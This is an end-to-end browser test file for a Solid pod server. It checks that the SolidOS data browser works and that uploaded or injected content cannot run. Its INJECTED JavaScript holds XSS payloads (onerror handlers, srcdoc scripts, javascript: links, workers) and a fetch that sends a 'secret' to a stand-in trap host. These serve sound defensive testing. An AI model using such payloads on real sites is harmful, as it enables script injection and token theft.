"""SolidOS as the data browser: the published package, installed as its users install it, in front of strangers, of who owns
the pod, and of what may be kept there to act in her name. Nobody but this machine is asked for anything.
"""

from __future__ import annotations

import re
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Request, expect

from pod.operator.data_browser_package import RELEASES, install
from tests.browser.conftest import HERE
from tests.browser.people import Person
from tests.browser.test_uploaded_content import ByName, opened, pressed
from tests.browser.trap import Trap, running_trap
from tests.browser.uploads import upload
from tests.support.browser import ARGUMENTS, NARROW, chromium, visitor
from tests.support.client import CONTAINER_LINK, acl, authorization
from tests.support.fixtures import signed_in
from tests.support.node import NodeError, pack
from tests.support.proxy import certificate, proxy
from tests.support.server import ALICE, BOB, PROGRAM, Account, Server, free_port, running_server
from tests.support.waiting import until

pytestmark = [pytest.mark.browser, pytest.mark.e2e]

(VERSION,) = RELEASES
POLL_MS = 20
"""Events come while the page is asked for something."""
PAD = """@prefix pad: <http://www.w3.org/ns/pim/pad#>. @prefix dc: <http://purl.org/dc/elements/1.1/>.
@prefix sioc: <http://rdfs.org/sioc/ns#>.
<#this> a pad:Notepad; dc:title "Notes"; pad:next <#line0>.
<#line0> sioc:content "a first line"; dc:author <{0}>; pad:next <#this>."""


@pytest.fixture(scope="module")
def package() -> Path:
    """The published package, as `make data-browser` gets it."""
    try:
        return pack(f"mashlib@{VERSION}", HERE / "node_modules")
    except NodeError as error:
        pytest.fail(str(error), pytrace=False)


@dataclass
class Pods:
    """A server with placement subdomain that shows SolidOS."""

    server: Server

    def url(self, account: Account, path: str = "") -> str:
        base = urlsplit(self.server.base_url)
        return f"{base.scheme}://{account.name}.{base.netloc}/{path}"

    def client(self, account: Account) -> ByName:
        """Speaks for somebody without a browser."""
        client = signed_in(self.server, account)
        return ByName(client.base_url, client.login, account.name)

    def share(self, account: Account, path: str, modes: str = "Read") -> str:
        """A container that everyone may read; its URL."""
        client, url = self.client(account), self.url(account, path)
        client.put(url, headers=CONTAINER_LINK)
        owner = self.url(account, "profile/card#me")
        rules = acl(
            authorization(url, "Read Write Control", agents=(owner,), default=True),
            authorization(url, modes, public=True, default=True),
        )
        assert client.put(f"{url}.acl", rules, headers={"Content-Type": "text/turtle"}).status_code in {201, 204, 205}
        return url


@pytest.fixture(scope="module")
def pods(package: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pods]:
    directory = tmp_path_factory.mktemp("pods")
    command = [str(PROGRAM), "data-browser", "install", str(package), "--data", str(directory / "data")]
    subprocess.run(command, check=True, capture_output=True, timeout=60)
    settings = {"FREEHOLD_PLACEMENT": "subdomain", "FREEHOLD_DATA_BROWSER": "mashlib"}
    with running_server((ALICE, BOB), directory=directory, environment=settings) as server:
        yield Pods(server)


@dataclass
class Looking(Person):
    """Somebody before SolidOS. `foreign` gets every request that is not for this machine, `breaches` what a policy stopped,
    `heard` what sockets said.
    """

    foreign: list[str] = field(default_factory=list)
    breaches: list[str] = field(default_factory=list)
    heard: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("console", self._said)
        self.page.context.on("request", self._asked)
        self.page.on("websocket", lambda socket: socket.on("framereceived", lambda said: self.heard.append(str(said))))

    def _said(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.breaches.append(message.text)

    def _asked(self, request: Request) -> None:
        there = urlsplit(request.url)
        if there.scheme in {"http", "https", "ws", "wss"} and not re.fullmatch(
            r"(?:.*\.)?localhost", there.hostname or ""
        ):
            self.foreign.append(request.url)

    def log_in(self) -> None:
        """As SolidOS has it: its button, its question where; then our pages; and back."""
        self.page.get_by_role("button", name="Log In").first.click()
        expect(self.page.get_by_role("textbox", name="Solid Identity Provider")).to_have_value(self.server.base_url)
        self.page.get_by_role("dialog").get_by_role("button", name="Log In").click()
        self.is_asked_to_sign_in()
        self.sign_in()
        expect(self.page.get_by_role("heading", level=1)).to_contain_text("SolidOS")
        self.answer("allow")
        self.is_logged_in()

    def is_logged_in(self) -> None:
        expect(self.page.get_by_role("button", name="Your storage")).to_be_visible()

    def sees(self, said: str) -> None:
        expect(self.page.locator("#OutlineView").get_by_text(said).first).to_be_visible()

    def hears(self, said: str) -> None:
        until(lambda: self.page.wait_for_timeout(POLL_MS) or said in self.heard)

    def has_asked_nobody_else(self) -> None:
        assert (self.foreign, self.breaches) == ([], [])


@contextmanager
def looking(pods: Pods, browser: Browser, account: Account = ALICE, **options: Any) -> Iterator[Looking]:
    with visitor(browser, pods.url(account), **options) as seen:
        yield Looking(seen, pods.server, account)


@pytest.fixture(scope="module")
def signed_in_alice(pods: Pods, browser: Browser) -> Iterator[Looking]:
    """In the page of her own private container."""
    with looking(pods, browser) as alice:
        alice.page.goto(pods.url(ALICE))
        alice.log_in()
        yield alice


# -- it works --------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("width", [None, NARROW])
def test_a_stranger_sees_what_is_public(pods: Pods, browser: Browser, width: int | None):
    with looking(pods, browser, **({"width": width} if width else {})) as stranger:
        stranger.page.goto(pods.url(ALICE, "profile/card"))
        stranger.sees("oidc Issuer")
        stranger.has_asked_nobody_else()


def test_a_profile_is_shown_as_that_of_a_person(pods: Pods, browser: Browser):
    with looking(pods, browser) as stranger:
        stranger.page.goto(pods.url(ALICE, "profile/card#me"))
        expect(stranger.page.get_by_role("figure", name="Add to Contacts")).to_be_visible()
        stranger.has_asked_nobody_else()


def test_the_owner_signs_in_on_a_private_page_and_is_back_there(pods: Pods, signed_in_alice: Looking):
    alice = signed_in_alice
    expect(alice.page).to_have_url(pods.url(ALICE))
    for name in ("inbox", "profile", "settings"):
        alice.sees(name)
    alice.page.reload()
    alice.is_logged_in()
    alice.sees("settings")
    alice.has_asked_nobody_else()


def test_a_document_is_edited_by_patches(pods: Pods, signed_in_alice: Looking):
    alice, url = signed_in_alice, pods.url(ALICE, "notes/pad.ttl")
    pods.client(ALICE).put(url, PAD.format(pods.url(ALICE, "profile/card#me")), headers={"Content-Type": "text/turtle"})
    alice.page.goto(f"{url}#this")
    line = alice.page.locator("#OutlineView input[type=text]").first
    expect(line).to_have_value("a first line")
    expect(line).to_be_editable()
    with alice.page.expect_response(lambda answer: answer.request.method == "PATCH") as answer:
        line.press("End")
        line.type(" and more")
    assert answer.value.status in {200, 204, 205}
    expect(line).to_have_value("a first line and more")
    until(lambda: "a first line and more" in pods.client(ALICE).get(url).text)
    alice.has_asked_nobody_else()


@pytest.mark.parametrize("kept", ["everyones", "hers alone"])
def test_what_comes_from_elsewhere_appears_by_itself(pods: Pods, signed_in_alice: Looking, kept: str):
    """SolidOS sends no token to the older socket: what it may hear of is sealed into the URL."""
    alice, client = signed_in_alice, pods.client(ALICE)
    if kept == "everyones":
        url = pods.share(ALICE, "live/")
    else:
        url = pods.url(ALICE, "quiet/")
        client.put(url, headers=CONTAINER_LINK)
    client.put(f"{url}before.ttl", "<> a <#Thing> .", headers={"Content-Type": "text/turtle"})
    alice.page.goto(url)
    alice.sees("before.ttl")
    alice.hears(f"ack {url}")
    client.put(f"{url}later.ttl", "<> a <#Thing> .", headers={"Content-Type": "text/turtle"})
    alice.sees("later.ttl")
    alice.has_asked_nobody_else()


def test_away_from_localhost_a_worker_of_solidos_keeps_her_signed_in(browser: Browser, package: Path, tmp_path: Path):
    """At localhost SolidOS does without. It is on the origin of the pod, and gets the tokens with which a reload goes on."""
    port, host = free_port(), "pods.test"
    base, pod = f"https://{host}:{port}/", f"https://alice.{host}:{port}/"
    install(package, tmp_path / "data" / "data-browser")
    settings = {
        "FREEHOLD_PLACEMENT": "subdomain",
        "FREEHOLD_DATA_BROWSER": "mashlib",
        "FREEHOLD_TRUSTED_PROXIES": "127.0.0.1",
    }
    made = certificate(tmp_path / "proxy.pem", name=f"*.{host}")
    names = f"--host-resolver-rules=MAP {host} 127.0.0.1, MAP *.{host} 127.0.0.1, MAP * ~NOTFOUND"
    flags = [*(each for each in ARGUMENTS if "host-resolver" not in each), names, "--ignore-certificate-errors"]
    with (
        running_server((ALICE,), directory=tmp_path, extra_args=["--base-url", base], environment=settings) as server,
        proxy(to=urlsplit(server.base_url).port, certificate=str(made), port=port, keeps_uploads=True),
        browser.browser_type.launch(executable_path=chromium(), args=flags) as other,
        visitor(other, pod) as seen,
    ):
        server.base_url = base
        alice = Looking(seen, server, ALICE)
        alice.page.goto(pod)
        alice.log_in()
        alice.page.reload()
        alice.is_logged_in()
        alice.sees("settings")
        assert alice.breaches == []


# -- and nothing else acts -------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    with running_trap() as running:
        yield running


KEPT = """async () => {
    const names = (await indexedDB.databases()).map(each => each.name);
    return [names, Object.keys(localStorage)];
}"""


@pytest.mark.parametrize("name", ["HTML", "XHTML", "SVG", "XML with a stylesheet", "Markdown"])
def test_a_file_of_the_pod_neither_runs_nor_reaches_what_solidos_keeps(
    pods: Pods, signed_in_alice: Looking, trap: Trap, name: str
):
    """It is on the very origin where her tokens are."""
    alice, folder = signed_in_alice, pods.share(ALICE, "evil/")
    assert alice.page.evaluate(KEPT)[0] == ["soidc"]
    media_type, content = upload(name, pods.server.base_url[:-1], trap.origin)
    url = f"{folder}file"
    pods.client(ALICE).put(url, content, headers={"Content-Type": media_type})
    trap.asked.clear()
    page = alice.visitor.another().page
    opened(page, url)
    pressed(page)
    assert (page.url.removesuffix("#here"), page.title() == "ran", trap.asked) == (url, False, [])
    assert page.evaluate("origin") == "null"
    assert page.evaluate(f"({KEPT})().then(() => 'reached', error => error.name)") == "SecurityError"
    page.close()


def test_markup_in_the_page_of_solidos_does_not_act(pods: Pods, signed_in_alice: Looking, trap: Trap):
    """Some of its views write into the page what documents say, as it is."""
    alice, folder = signed_in_alice, pods.share(ALICE, "evil/")
    script = f"{folder}evil.js"
    pods.client(ALICE).put(script, "document.title = 'ran'", headers={"Content-Type": "text/javascript"})
    alice.page.goto(pods.url(ALICE, "profile/card"))
    alice.sees("oidc Issuer")
    trap.asked.clear()
    done = alice.page.evaluate(INJECTED, [script, trap.origin, pods.server.url(".account/")])
    assert done == {
        "eval": "EvalError",
        "Function": "EvalError",
        "worker": "error",
        "shared": "error",
        "service": "SecurityError",
    }
    assert (trap.asked, alice.page.title() == "ran") == ([], False)
    assert alice.page.url == pods.url(ALICE, "profile/card")
    assert alice.breaches
    alice.breaches.clear()
    alice.foreign.clear()


INJECTED = """async ([script, trap, account]) => {
    await new Promise((done) => setTimeout(done));  // out of the debugger, which may do what the page may not
    const hole = document.createElement("div");
    document.body.append(hole);
    hole.innerHTML = `<img src=x onerror="document.title = 'ran'"><img src="${trap}/picture"><iframe src="${account}"></iframe>
        <iframe srcdoc="<script>parent.document.title = 'ran'</script>"></iframe><object data="${script}"></object>
        <form action="${trap}/form" method="post"><button>Send</button></form><a href="javascript:document.title = 'ran'">Go</a>
        <link rel="stylesheet" href="${trap}/style"><base href="${trap}/"><style>@import "${trap}/style";</style>`;
    for (const [name, value] of [["src", script], ["src", `${trap}/x.js`], ["textContent", "document.title = 'ran'"]]) {
        const element = document.createElement("script");
        element[name] = value;
        hole.append(element);
    }
    hole.querySelector("button").click();
    hole.querySelector("a").click();
    const name = make => { try { make(); return "ran"; } catch (error) { return error.name; } };
    const outcome = make => new Promise(done => {
        try {
            const made = make();
            made.onerror = () => done("error");
            made.onmessage = () => done("ran");
        } catch (error) { done(error.name); }
    });
    fetch(`${trap}/told`, { method: "POST", mode: "no-cors", body: "secret" }).catch(() => {});
    navigator.sendBeacon(`${trap}/beacon`);
    return {
        eval: name(() => eval("1")),
        Function: name(() => Function("return 1")()),
        worker: await outcome(() => new Worker(script)),
        shared: await outcome(() => new SharedWorker(script)),
        service: await navigator.serviceWorker.register(script).then(() => "ran", error => error.name),
    };
}"""


def test_a_page_that_is_kept_in_the_pod_is_shown_as_it_is(pods: Pods, browser: Browser):
    folder = pods.share(BOB, "pages/")
    pods.client(BOB).put(f"{folder}hello", "<title>mine</title><h1>Hello", headers={"Content-Type": "text/html"})
    with looking(pods, browser, BOB) as stranger:
        stranger.page.goto(f"{folder}hello")
        expect(stranger.page.get_by_role("heading")).to_have_text("Hello")
        assert stranger.page.title() == "mine"


def test_a_browser_without_script_is_shown_the_way(pods: Pods, browser: Browser):
    with looking(pods, browser, java_script_enabled=False) as stranger:
        stranger.page.goto(pods.url(ALICE))
        stranger.page.get_by_role("link", name="See your pod without it").click()
        stranger.is_asked_to_sign_in()
